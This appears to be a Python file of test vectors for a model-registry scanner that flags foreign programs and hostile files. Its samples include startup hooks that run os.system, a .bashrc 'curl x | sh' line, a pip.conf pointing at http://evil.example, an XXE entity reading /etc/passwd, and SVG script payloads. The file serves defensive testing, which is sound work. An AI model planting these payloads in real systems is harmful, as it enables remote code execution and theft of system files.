"""Programs that are no part of a model, and files of no known format that show what they are."""

from __future__ import annotations

from registry.testing.vectors import Vector


def _bad(name: str, path: str, rule: int, data: bytes) -> Vector:
    return Vector(name=name, path=path, data=data, rule=f"FOREIGN-{rule}")


_RUN = b"import os\nos.system('id')\n"
_XXE = b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>\n<a>&b;</a>'

VECTORS = (
    *(
        _bad("program", f"x.{ending}", 1, data)
        for data in (b"@echo off\r\n", b"PK\3\4" + bytes(60))
        for ending in ("bat", "cmd", "ps1", "vbs", "hta", "js", "scr", "msi", "jar", "lnk", "url")
    ),
    _bad("startup", "sitecustomize.py", 2, _RUN),
    _bad("startup", "lib/usercustomize.py", 2, _RUN),
    _bad("shell", ".bashrc", 2, b"curl x | sh\n"),
    _bad("installer", "pip.conf", 2, b"[global]\nindex-url = http://evil.example\n"),
    _bad("entity", "model.xml", 4, _XXE),
    *(
        Vector(name=name, path="model.xml", data=data, rule=rule, fails=rule != "NATIVE-5")
        for name, data, rule in (
            ("svg-loads", b"<svg onload='x()'/>", "FOREIGN-5"),
            ("svg-script", b"<?xml version='1.0'?>\n<!-- a -->\n<svg><script/></svg>", "FOREIGN-5"),
            ("svg", b"<svg><text>on = off</text></svg>", "NATIVE-5"),
            ("type-elsewhere", b"<!DOCTYPE a SYSTEM 'http://x/a.dtd'><a/>", "FOREIGN-4"),
            ("no-type", b"<a>DOCTYPE SYSTEM</a>", "NATIVE-5"),
        )
    ),
    *(
        Vector(name=name, path=path, data=data, rule=rule, fails=False)
        for name, path, data, rule in (
            ("text", "notes", b"a text of no known kind\n", "FILE-6"),
            ("page", "page.html", b"<!DOCTYPE html>\n<p>a</p>", "FILE-6"),
            ("braces", "a.template", b"{{ now() }} __class__", "FILE-6"),
        )
    ),
)
